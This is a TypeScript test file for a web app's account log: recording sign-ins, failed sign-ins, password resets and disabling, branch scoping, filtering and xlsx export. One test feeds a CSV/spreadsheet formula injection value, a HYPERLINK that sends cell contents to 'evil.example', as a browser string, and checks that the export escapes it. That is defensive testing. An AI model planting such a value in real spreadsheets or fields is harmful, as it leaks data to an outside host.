import { Access, type AccountLogEntry, Errno } from '@sunstack/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { firstSheetOf, startTestApp, type TestAccount, type TestApp } from '../../test/harness.ts';
import { codeIn } from '../../test/mailCapture.ts';

/**
 * The account log (spec section 6): sign-ins and their failures, sign-outs, password changes and
 * resets, disabling; with address and browser; scoped like the operation log.
 */
let t: TestApp;
const acc: Record<string, TestAccount> = {};
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AccountLogTest/1.0';

/** A call from a given address and browser. */
async function callFrom(path: string, body: unknown, options: { token?: string; ip: string }) {
  return (await t.call('POST', path, body, { ...options, userAgent: BROWSER })).body;
}

beforeAll(async () => {
  t = await startTestApp();
  const a = await t.createBranch('distributor', 'ALOGA001');
  const b = await t.createBranch('distributor', 'ALOGB001');
  acc.admin = await t.createAccount(Access.admin, { username: 'alog_admin' });
  acc.distA = await t.createAccount(Access.distributor, { username: 'alog_dist_a', organisationId: a });
  acc.distB = await t.createAccount(Access.distributor, { username: 'alog_dist_b', organisationId: b });
  acc.userA = await t.createAccount(Access.endUser, { username: 'alog_user_a', organisationId: a });
  acc.userB = await t.createAccount(Access.endUser, { username: 'alog_user_b', organisationId: b });
  acc.installerA = await t.createAccount(Access.installer, { username: 'alog_inst_a', organisationId: a });
});
afterAll(() => t.close());

const log = async (caller: string, filters: Record<string, unknown> = {}) => {
  const answer = await t.call('POST', '/c/v0/log/account/list', { pageSize: 50, ...filters }, { token: acc[caller]?.token });
  expect(answer.body.errno, JSON.stringify(answer.body)).toBe(0);
  return answer.body.result as { total: number; entries: AccountLogEntry[] };
};
const events = async (username: string) =>
  (await log('admin', { username })).entries.filter((e) => e.username === username).map((e) => e.event);

describe('account log', () => {
  it('records sign-ins and failed sign-ins with address, browser and reason', async () => {
    const user = acc.userA as TestAccount;
    expect((await callFrom('/c/v0/user/login', { user: user.username, password: 'wrong-one' }, { ip: '10.20.0.1' })).errno).toBe(
      Errno.wrongCredentials,
    );
    expect((await callFrom('/c/v0/user/login', { user: user.email, password: user.password }, { ip: '10.20.0.2' })).errno).toBe(0);
    const [signIn, failed] = (await log('admin', { username: user.username })).entries;
    expect(signIn).toMatchObject({ event: 'signIn', username: user.username, actor: user.username, ip: '10.20.0.2', userAgent: BROWSER });
    expect(failed).toMatchObject({ event: 'signInFailed', detail: 'wrongPassword', actor: '', ip: '10.20.0.1', userAgent: BROWSER });
  });

  it('records a sign-in that names no account, for administrators only', async () => {
    await callFrom('/c/v0/user/login', { user: 'alog_nobody', password: 'whatever1' }, { ip: '10.20.1.1' });
    const [entry] = (await log('admin', { username: 'alog_nobody' })).entries;
    expect(entry).toMatchObject({ event: 'signInFailed', detail: 'unknownUser', username: 'alog_nobody', ip: '10.20.1.1' });
    expect((await log('distA', { username: 'alog_nobody' })).total).toBe(0);
  });

  it('records sign-out, password change, reset by code, operator reset, forced change, disable and enable', async () => {
    const user = acc.installerA as TestAccount;
    const ip = '10.20.2.1';
    await callFrom('/c/v0/user/password', { oldPassword: user.password, newPassword: 'changed-1' }, { token: user.token, ip });
    await callFrom('/c/v0/user/logout', {}, { token: user.token, ip });
    await t.call('POST', '/c/v0/user/sendcaptcha', { purpose: 'reset', user: user.username });
    const captcha = codeIn(await t.mail.waitFor(user.email));
    expect((await callFrom('/c/v0/user/reset', { user: user.username, captcha, password: 'by-code-1' }, { ip })).errno).toBe(0);
    const reset = await callFrom('/c/v0/user/resetPassword', { id: user.id }, { token: acc.distA?.token, ip: '10.20.2.9' });
    const oneTime = reset.result.password as string;
    const session = (await callFrom('/c/v0/user/login', { user: user.username, password: oneTime }, { ip })).result.token as string;
    await callFrom('/c/v0/user/password', { oldPassword: oneTime, newPassword: 'mine-1234' }, { token: session, ip });
    await callFrom('/c/v0/user/status', { id: user.id, enabled: false }, { token: acc.distA?.token, ip: '10.20.2.9' });
    await callFrom('/c/v0/user/status', { id: user.id, enabled: true }, { token: acc.distA?.token, ip: '10.20.2.9' });

    expect((await events(user.username)).reverse()).toEqual([
      'signIn', // the test account's first sign-in
      'passwordChanged',
      'signOut',
      'passwordResetByCode',
      'passwordResetByOperator',
      'signIn',
      'passwordChangedAfterReset',
      'disabled',
      'enabled',
    ]);
    const byOperator = (await log('admin', { username: user.username, event: 'passwordResetByOperator' })).entries[0];
    expect(byOperator).toMatchObject({ actor: 'alog_dist_a', ip: '10.20.2.9', userAgent: BROWSER });
    // A disabled account's sign-in fails with its reason.
    await callFrom('/c/v0/user/status', { id: user.id, enabled: false }, { token: acc.distA?.token, ip: '10.20.2.9' });
    await callFrom('/c/v0/user/login', { user: user.username, password: 'mine-1234' }, { ip });
    expect((await log('admin', { username: user.username, event: 'signInFailed' })).entries[0]?.detail).toBe('disabled');
  });

  it("shows a branch manager its branch's accounts only", async () => {
    const a = await log('distA');
    expect(new Set(a.entries.map((e) => e.username))).toEqual(new Set(['alog_dist_a', 'alog_user_a', 'alog_inst_a']));
    const b = await log('distB');
    expect(new Set(b.entries.map((e) => e.username))).toEqual(new Set(['alog_dist_b', 'alog_user_b']));
  });

  it('filters by event, address and time, and pages on the server', async () => {
    expect((await log('admin', { event: 'signOut' })).entries.map((e) => e.username)).toEqual(['alog_inst_a']);
    expect((await log('admin', { ip: '10.20.1.1' })).total).toBe(1);
    expect((await log('admin', { from: Date.now() + 60_000 })).total).toBe(0);
    const all = await log('admin');
    const page2 = await t.call('POST', '/c/v0/log/account/list', { pageSize: 10, currentPage: 2 }, { token: acc.admin?.token });
    expect(page2.body.result.total).toBe(all.total);
    expect(page2.body.result.entries[0].id).toBe(all.entries[10]?.id);
    expect((await t.call('POST', '/c/v0/log/account/list', { event: 'hacked' }, { token: acc.admin?.token })).body.errno).toBe(
      Errno.bodyInvalid,
    );
  });

  it('exports the same entries as an xlsx workbook', async () => {
    const file = await t.download('/c/v0/log/account/export', { event: 'signIn' }, { token: acc.distB?.token });
    expect(file.contentType).toContain('spreadsheetml');
    const sheet = await firstSheetOf(file.bytes);
    expect(sheet.getRow(1).getCell(2).value).toBe('Account');
    const listed = await log('distB', { event: 'signIn' });
    expect(sheet.rowCount).toBe(listed.total + 1);
    expect(sheet.getRow(2).getCell(2).value).toBe(listed.entries[0]?.username);
  });

  it('exports what a caller chose (its browser string) so that no spreadsheet runs it as a formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await t.call('POST', '/c/v0/user/login', { user: 'alog_user_b', password: 'wrong' }, { userAgent: formula, ip: '10.20.9.9' });
    const file = await t.download(
      '/c/v0/log/account/export',
      { event: 'signInFailed', username: 'alog_user_b' },
      { token: acc.admin?.token },
    );
    const sheet = await firstSheetOf(file.bytes);
    expect(sheet.getRow(1).getCell(7).value).toBe('Browser');
    expect(sheet.getRow(2).getCell(7).value).toBe(`'${formula}`);
  });

  it('is refused to roles without the log screen', async () => {
    expect((await t.call('POST', '/c/v0/log/account/list', {}, { token: acc.userA?.token })).body.errno).toBe(Errno.noPermission);
  });
});
